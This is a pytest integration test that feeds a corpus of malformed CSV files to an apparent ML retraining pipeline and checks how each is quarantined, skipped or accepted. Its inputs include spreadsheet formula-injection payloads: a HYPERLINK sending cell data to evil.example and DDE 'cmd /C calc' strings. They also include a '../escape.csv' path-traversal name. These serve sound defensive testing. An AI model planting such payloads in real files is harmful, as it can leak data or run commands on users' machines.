"""A corpus of bad (and oddly shaped good) input files, dropped all at once on the real local stack
(`autoretrain up`: Azurite, the local Functions host, the local Event Grid's blob watcher, the
embedded workspace running ml/pipeline.yml). Every file must end in the state its content deserves,
with a reason that names the fault; a quarantined file's copy holds exactly its bytes; no
customer file is changed; and every uploaded blob version has exactly one ledger record.

The stack runs once for the whole corpus (a module-scoped fixture); each case then checks its own
outcome and says, in one message, everything about it that differs from the expectation.
"""

from __future__ import annotations

import contextlib
import csv
import gzip
import http.client
import io
import random
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
import yaml
from azure.core.exceptions import ResourceExistsError, ResourceNotFoundError
from azure.storage.blob import BlobServiceClient, ContainerSasPermissions, generate_container_sas
from localstack import ROOT, start
from mlmodules import wine

from autoretrain.adapters.localworkspace.workspace import catalog_rows
from autoretrain.domain import BlobRef, LedgerState, WorkKey

pytestmark = pytest.mark.integration

# The corpus' own contract: ml/contract.yaml with a small size limit, so that one file can be over
# it without uploading half a gigabyte. It stays above the largest file that must be read (the
# 60,000-row one, 4.2 MB, and the 4 MB one-line file).
MAX_BYTES = 4_500_000
DONE, QUARANTINED, SKIPPED = LedgerState.DONE, LedgerState.QUARANTINED, LedgerState.SKIPPED


# ---- the data -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Wine:
    """The 178 wines of ml/sample/wine.py as CSV: the header line and the data lines (no newlines)."""

    frame: Any  # pandas.DataFrame
    header: str
    lines: tuple[str, ...]

    @classmethod
    def load(cls) -> Wine:
        frame = wine().wine_frame()
        header, *lines = frame.to_csv(index=False).splitlines()
        return cls(frame, header, tuple(lines))

    def rows(self, count: int) -> list[str]:
        """`count` data lines: the wines over and over (all three cultivars in any 178 of them)."""
        return [self.lines[i % len(self.lines)] for i in range(count)]

    def csv(self, rows: list[str] | None = None, header: str | None = None) -> bytes:
        return ("\n".join([header or self.header, *(self.lines if rows is None else rows)]) + "\n").encode()

    def shuffled(self, seed: int) -> bytes:
        """All 178 wines in another order: valid, and distinct from the other valid files."""
        return self.frame.sample(frac=1, random_state=seed).to_csv(index=False).encode()  # type: ignore[no-any-return]


def _set_field(line: str, index: int, value: str) -> str:
    fields = line.split(",")
    fields[index] = value
    return ",".join(fields)


def _replace_on_line(w: Wine, line_no: int, column: str, value: str, count: int = 178) -> bytes:
    """A file of `count` rows whose `column` on editor line `line_no` (the header is line 1) is `value`,
    written as CSV quotes it."""
    rows = w.rows(count)
    fields = next(csv.reader([rows[line_no - 2]]))
    fields[w.header.split(",").index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(fields)
    rows[line_no - 2] = out.getvalue()
    return w.csv(rows)


def _without_column(w: Wine, column: str) -> bytes:
    return w.frame.drop(columns=[column]).to_csv(index=False).encode()  # type: ignore[no-any-return]


def _non_utf8_offset(data: bytes) -> int:
    """Where a UTF-8 reader (as ingest reads the head) first fails."""
    try:
        data.decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        return int(exc.start)
    raise AssertionError("the data is UTF-8")


def _latin1_at(data: bytes, after: int) -> bytes:
    """`data` with the first data line that starts past byte `after` spelling its cultivar in
    latin-1 ('clé...': 0xE9, which is not UTF-8)."""
    start = data.index(b"\n", after) + 1
    end = data.index(b"\n", start)
    return data[:start] + data[start:end].replace(b"class_", b"cl\xe9ss_") + data[end:]


def _latin1_where(data: bytes) -> tuple[int, int]:
    offset = data.index(b"\xe9")
    return offset, data[:offset].count(b"\n") + 1


def _quoted_newlines(w: Wine) -> bytes:
    frame = w.frame.copy()
    frame["note"] = [f"cask {i};\nsecond tasting:\n  fine" if i % 7 == 0 else f"cask {i}" for i in range(len(frame))]
    # QUOTE_NONNUMERIC: the header, every note and every cultivar are quoted, numbers are not.
    return frame.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC).encode()  # type: ignore[no-any-return]


def _bad_after_quoted_newlines(w: Wine) -> bytes:
    """A note spanning lines 2-4, then 'oops' for alcohol on line 5 (as an editor numbers lines)."""
    rows = [f'{w.lines[0]},"one\ntwo\nthree"', _set_field(w.lines[1], 0, "oops") + ",plain"]
    return w.csv([*rows, *(f"{line},plain" for line in w.lines[2:])], header=f"{w.header},note")


def _formula_target(w: Wine) -> bytes:
    frame = w.frame.copy()
    frame["cultivar"] = frame["cultivar"].replace({"class_2": '=HYPERLINK("http://evil.example/x","class_2")'})
    return frame.to_csv(index=False).encode()  # type: ignore[no-any-return]


def _over_limit(w: Wine) -> bytes:
    rows = w.rows(MAX_BYTES // 70 + 1000)
    data = w.csv(rows)
    assert len(data) > MAX_BYTES
    return data


# ---- the corpus -----------------------------------------------------------------------------------


Reason = str | Callable[[bytes], str]


@dataclass(frozen=True)
class Case:
    id: str
    name: str
    make: Callable[[Wine], bytes]
    state: LedgerState
    reasons: tuple[Reason, ...] = ()  # fragments the ledger's reason must contain

    def fragments(self, data: bytes) -> list[str]:
        return [r(data) if callable(r) else r for r in self.reasons]


PREP = "(found by step 'prep'"  # a fault prep found deeper than ingest's head check reads
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"open")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+9)*cmd|' /C calc'!A0"

CASES: tuple[Case, ...] = (
    Case("valid", "valid.csv", lambda w: w.shuffled(1), DONE),
    Case("empty", "empty.csv", lambda w: b"", QUARANTINED, ("the file is empty",)),
    Case("header-only", "header-only.csv", lambda w: w.csv([]), QUARANTINED,
         ("the header has no data rows under it",)),
    Case("missing-column", "missing-column.csv", lambda w: _without_column(w, "proline"), QUARANTINED,
         ("missing column(s) 'proline' required by contract.yaml",)),
    # Columns the contract does not name are read past (prep logs them as ignored).
    Case("extra-column", "extra-column.csv",
         lambda w: w.csv([f"{line},north" for line in w.lines], header=f"{w.header},region"), DONE),
    Case("renamed-column", "renamed-column.csv",
         lambda w: w.csv(header=w.header.replace("alcohol,", "Alcohol %,", 1)), QUARANTINED,
         ("missing column(s) 'alcohol' required",)),
    Case("wrong-type-early", "wrong-type-early.csv", lambda w: _replace_on_line(w, 3, "alcohol", "thirteen"),
         QUARANTINED, ("column 'alcohol' has 'thirteen' on line 3; expected a number",)),
    # Ingest reads the first 256 KiB; line 50,000 of 60,000 is found by prep, which exits 65.
    Case("wrong-type-deep", "wrong-type-deep.csv",
         lambda w: _replace_on_line(w, 50_000, "magnesium", "lots", count=60_000), QUARANTINED,
         ("column 'magnesium' has 'lots' on line 50000; expected a whole number", PREP)),
    Case("latin1-early", "latin1-early.csv", lambda w: _latin1_at(w.csv(), 0), QUARANTINED,
         (lambda d: f"byte {_non_utf8_offset(d)} is not UTF-8",)),
    # Past 1 MiB: prep names the line and the byte offset in the file itself, not in its read buffer.
    Case("latin1-deep", "latin1-deep.csv", lambda w: _latin1_at(w.csv(w.rows(15_500)), 1_050_000), QUARANTINED,
         (lambda d: "line {1}, byte {0} is not UTF-8".format(*_latin1_where(d)), PREP)),
    Case("utf8-bom", "utf8-bom.csv", lambda w: b"\xef\xbb\xbf" + w.shuffled(2), DONE),
    Case("crlf", "crlf.csv", lambda w: w.shuffled(3).replace(b"\n", b"\r\n"), DONE),
    # RFC 4180 lets a quoted field hold line breaks. Ingest's head check and prep both read CSV with
    # the csv module (prep's fast pandas path refuses any file with a quote and hands it to that exact
    # reader), so a multi-line note is one field of one record, and quoted names and cultivars are
    # their plain text: the file is valid, and `note` is a column the contract ignores. Done is right.
    Case("quoted-newlines", "quoted-newlines.csv", _quoted_newlines, DONE),
    # A reason names the line an editor shows (prep's docstring says so, and prep counts physical
    # lines): after a three-line quoted field, the next record is on line 5, not "line 3".
    Case("bad-after-quoted-newlines", "bad-after-quoted-newlines.csv", _bad_after_quoted_newlines, QUARANTINED,
         ("column 'alcohol' has 'oops' on line 5; expected a number",)),
    Case("binary-garbage", "binary-garbage.csv", lambda w: random.Random(20261126).randbytes(4096), QUARANTINED,
         (lambda d: f"byte {_non_utf8_offset(d)} is not UTF-8",)),
    # gzip's magic number is 1f 8b: byte 1 is not UTF-8.
    Case("gzip", "gzip.csv", lambda w: gzip.compress(w.csv(), mtime=0), QUARANTINED, ("byte 1 is not UTF-8",)),
    # 4 MB without a newline: the 256 KiB head holds no complete first line.
    Case("one-enormous-line", "one-enormous-line.csv", lambda w: b"13.2," * 800_000, QUARANTINED,
         ("no header line",)),
    Case("over-size-limit", "over-size-limit.csv", _over_limit, QUARANTINED,
         (lambda d: f"{len(d)} bytes is over the contract's limit of {MAX_BYTES}",)),
    # Spreadsheet formulas are text like any other: never evaluated; where a number is due, not a number.
    Case("formula-hyperlink", "formula-hyperlink.csv", lambda w: _replace_on_line(w, 2, "alcohol", HYPERLINK),
         QUARANTINED, (f"column 'alcohol' has {HYPERLINK!r} on line 2; expected a number",)),
    Case("formula-cmd", "formula-cmd.csv", lambda w: _replace_on_line(w, 2, "magnesium", CMD), QUARANTINED,
         (f"column 'magnesium' has {CMD!r} on line 2; expected a whole number",)),
    Case("formula-sum", "formula-sum.csv", lambda w: _replace_on_line(w, 2, "proline", SUM), QUARANTINED,
         (f"column 'proline' has {SUM!r} on line 2; expected a whole number",)),
    # The target is a category: any text names a class, a formula included. Nothing evaluates it (the
    # steps read it as a string and the model's classes are those strings), and the stored data version
    # is the customer's bytes: it trains, and its copies are checked byte for byte below.
    Case("formula-target", "formula-target.csv", _formula_target, DONE),
    Case("doubled-column", "doubled-column.csv",
         lambda w: w.csv([f"{line},{line.split(',')[0]}" for line in w.lines], header=f"{w.header},alcohol"),
         QUARANTINED, ("column(s) 'alcohol' appear twice in line 1",)),
    Case("single-class", "single-class.csv", lambda w: w.csv(list(w.lines[:30])), QUARANTINED,
         ("'cultivar' has the single value 'class_0'; a classifier needs at least two classes",)),
    Case("fewer-than-10-rows", "fewer-than-10-rows.csv", lambda w: w.csv([*w.lines[:5], *w.lines[-4:]]),
         QUARANTINED, ("9 row(s) have a 'cultivar' value; at least 10 are needed",)),
    Case("empty-target", "empty-target.csv", lambda w: w.csv([_set_field(line, -1, "") for line in w.lines[:30]]),
         QUARANTINED, ("the target column 'cultivar' has no values",)),
    Case("ragged-row-deep", "ragged-row-deep.csv",
         lambda w: w.csv([f"{r},surplus" if i == 30_000 else r for i, r in enumerate(w.rows(30_010))]),
         QUARANTINED, ("line 30002 has 15 fields, the header has 14", PREP)),
    Case("name-spaces", "monthly drop 2026 01 .csv", lambda w: w.shuffled(4), DONE),
    Case("name-unicode", "données/été 2026.csv", lambda w: w.shuffled(5), DONE),
    # No URL reaches a blob named with a '..' segment (clients normalise it away), so nothing can
    # read or copy it: it is skipped with the reason, and not read.
    Case("name-dotdot", "../escape.csv", lambda w: w.shuffled(6), SKIPPED,
         ("'.' or '..' folder", "no URL reaches a name with '.' or '..' segments, so nothing was copied")),
    Case("name-1000-chars", "a/" * 10 + "n" * 976 + ".csv", lambda w: w.shuffled(7), DONE),
)
assert len({c.id for c in CASES}) == len({c.name for c in CASES}) == len(CASES) >= 25


# ---- running the corpus ---------------------------------------------------------------------------


class RawBlobs:
    """Plain HTTP under a container SAS, for names the SDK cannot address: it (through urllib3)
    removes '..' segments from a URL. A customer's own tool can send such a name, and Azurite keeps it."""

    def __init__(self, service: BlobServiceClient, container: str) -> None:
        url = urlsplit(service.url)
        self._host, self._port = url.hostname or "127.0.0.1", url.port or 80
        self._base = f"{url.path.rstrip('/')}/{container}"
        account, key = service.account_name, service.credential.account_key
        assert account is not None
        self._sas = generate_container_sas(
            account, container, account_key=key,
            permission=ContainerSasPermissions(read=True, write=True, create=True),
            expiry=datetime.now(UTC) + timedelta(hours=1),
        )

    def _request(self, method: str, name: str, body: bytes | None = None) -> tuple[int, bytes, str]:
        connection = http.client.HTTPConnection(self._host, self._port, timeout=60)
        try:
            headers = {"x-ms-blob-type": "BlockBlob"} if body is not None else {}
            connection.request(method, f"{self._base}/{quote(name, safe='/')}?{self._sas}", body=body,
                               headers=headers)
            answer = connection.getresponse()
            return answer.status, answer.read(), answer.getheader("ETag") or ""
        finally:
            connection.close()

    def put(self, name: str, data: bytes) -> str:
        status, body, etag = self._request("PUT", name, data)
        assert status == 201, (status, body[:300])
        return etag

    def get(self, name: str) -> tuple[bytes, str]:
        status, body, etag = self._request("GET", name)
        assert status == 200, (status, body[:300])
        return body, etag


@dataclass(frozen=True)
class Observed:
    """What became of one uploaded file, read after the stack stopped."""

    data: bytes = field(repr=False)  # what was uploaded
    ref: BlobRef
    state: LedgerState | None
    reason: str
    original: bytes | None = field(repr=False)  # the customer's blob, read back
    original_etag: str | None
    # Copies under the work key's folder in the quarantine container, by name.
    quarantine_copies: dict[str, bytes] = field(repr=False)
    dataset_copy: bytes | None = field(repr=False)
    workspace_file: bytes | None = field(repr=False)  # the embedded workspace's data version file


@dataclass(frozen=True)
class Corpus:
    observed: dict[str, Observed] = field(repr=False)
    records: int
    quarantine_blobs: int
    seconds: float


def _read(service: BlobServiceClient, container: str, name: str) -> tuple[bytes, str] | None:
    blob = service.get_blob_client(container, name)
    try:
        downloader = blob.download_blob()
        return downloader.readall(), str(downloader.properties.etag).strip('"')
    except ResourceNotFoundError:
        return None


def _upload(service: BlobServiceClient, raw: RawBlobs, container: str, case: Case, data: bytes) -> BlobRef:
    if BlobRef(container, case.name, "x").addressable:
        result = service.get_blob_client(container, case.name).upload_blob(data, overwrite=True)
        return BlobRef(container, case.name, str(result["etag"]))
    return BlobRef(container, case.name, raw.put(case.name, data))


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory, azurite: str) -> Iterator[Corpus]:
    """Upload every case at once, let the stack's watcher announce them, wait until every ledger record
    is final, stop the stack, then read back everything there is to check."""
    began = time.monotonic()
    tmp_path = tmp_path_factory.mktemp("corpus")
    unique = uuid.uuid4().hex[:10]
    contract = tmp_path / "contract.yaml"
    rules = yaml.safe_load((ROOT / "ml" / "contract.yaml").read_text(encoding="utf-8"))
    contract.write_text(yaml.safe_dump({**rules, "max_bytes": MAX_BYTES}, sort_keys=False), encoding="utf-8")
    w = Wine.load()
    datas = {case.id: case.make(w) for case in CASES}
    service = BlobServiceClient.from_connection_string(azurite)

    stack = contextlib.contextmanager(start)
    with stack(tmp_path, unique, azurite, {"AUTORETRAIN_CONTRACT": str(contract)}) as loop:
        up = time.monotonic()
        with contextlib.suppress(ResourceExistsError):  # the stack's watcher may have made it already
            service.create_container(loop.incoming)
        raw = RawBlobs(service, loop.incoming)
        refs = {case.id: _upload(service, raw, loop.incoming, case, datas[case.id]) for case in CASES}
        uploaded = time.monotonic()
        loop.wait_final([WorkKey.for_blob(ref) for ref in refs.values()], timeout=420)
        final = time.monotonic()
    print(f"\ncorpus: stack up in {up - began:.1f} s, {len(CASES)} files "
          f"({sum(map(len, datas.values())) / 1e6:.1f} MB) uploaded in {uploaded - up:.1f} s, "
          f"all final {final - uploaded:.1f} s later")

    datasets = loop.env["AUTORETRAIN_DATASETS_CONTAINER"]
    workspace_files = {row["source"]: Path(row["path"]) for row in catalog_rows(loop.home, "data")}
    quarantine = service.get_container_client(loop.quarantine)
    try:
        quarantined = [b.name for b in quarantine.list_blobs()]
    except ResourceNotFoundError:  # nothing was ever quarantined
        quarantined = []
    observed = {}
    for case in CASES:
        ref, data = refs[case.id], datas[case.id]
        key = WorkKey.for_blob(ref)
        record = loop.ledger.get(key)
        original = _read(service, ref.container, ref.name) if ref.addressable else raw.get(ref.name)
        copy_name = ref.copy_name(key)
        dataset = _read(service, datasets, copy_name)
        local = workspace_files.get(f"{datasets}/{copy_name}")
        observed[case.id] = Observed(
            data=data, ref=ref, state=record.state if record else None, reason=(record.reason or "") if record else "",
            original=original[0] if original else None,
            original_etag=original[1].strip('"') if original else None,
            quarantine_copies={
                name: quarantine.download_blob(name).readall() for name in quarantined
                if name.startswith(f"{key}/")
            },
            dataset_copy=dataset[0] if dataset else None,
            workspace_file=local.read_bytes() if local and local.is_file() else None,
        )
    yield Corpus(observed, sum(1 for _ in loop.ledger.records()), len(quarantined), final - uploaded)


# ---- the checks ---------------------------------------------------------------------------------


def _mismatches(case: Case, seen: Observed) -> list[str]:
    wrong = []
    if seen.state is not case.state:
        wrong.append(f"state: expected {case.state}, got {seen.state}")
    for fragment in case.fragments(seen.data):
        if fragment not in seen.reason:
            wrong.append(f"reason lacks {fragment!r}")
    if seen.original != seen.data:
        wrong.append("the original blob's bytes changed" if seen.original is not None else "the original blob is gone")
    if seen.original_etag != seen.ref.etag:
        wrong.append(f"the original blob's eTag changed: {seen.ref.etag} -> {seen.original_etag}")
    copy_name = seen.ref.copy_name(WorkKey.for_blob(seen.ref))
    if len(copy_name) > 1024:
        wrong.append(f"its copy name has {len(copy_name)} characters, over Blob Storage's 1,024")
    if case.state is QUARANTINED:
        if list(seen.quarantine_copies) != [copy_name]:
            wrong.append(f"quarantine copies: expected [{copy_name!r}], found {list(seen.quarantine_copies)}")
        elif seen.quarantine_copies[copy_name] != seen.data:
            wrong.append("the quarantine copy's bytes differ from the original's")
    elif seen.quarantine_copies:
        wrong.append(f"unexpected quarantine copies {list(seen.quarantine_copies)}")
    if case.state is DONE:
        if seen.dataset_copy != seen.data:
            wrong.append("the data version's copy in the datasets container differs from the original")
        if seen.workspace_file != seen.data:
            wrong.append("the workspace's data version file differs from the original")
    if case.state is SKIPPED and seen.dataset_copy is not None:
        wrong.append("a skipped file was copied to the datasets container")
    return wrong


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_each_file_ends_as_its_content_deserves(corpus: Corpus, case: Case) -> None:
    """The expected final state and reason; a quarantined file's copy is byte-identical; the customer's
    blob is untouched (same bytes, same eTag)."""
    seen = corpus.observed[case.id]
    wrong = _mismatches(case, seen)
    assert not wrong, (
        f"{case.id} ({case.name[:60]!r}): " + "; ".join(wrong)
        + f"\n  actual state: {seen.state}\n  actual reason: {seen.reason[:600]!r}"
    )


def test_nothing_is_unaccounted_for(corpus: Corpus) -> None:
    """One ledger record per uploaded blob version, and one quarantine copy per quarantined file."""
    table = "\n".join(
        f"  {c.id:26} expected {c.state:12} got {corpus.observed[c.id].state!s:12} "
        f"{corpus.observed[c.id].reason[:150]!r}"
        for c in CASES
    )
    print(f"\nfinal after {corpus.seconds:.1f} s:\n{table}")
    assert corpus.records == len(CASES)
    assert corpus.quarantine_blobs == sum(c.state is QUARANTINED for c in CASES), table
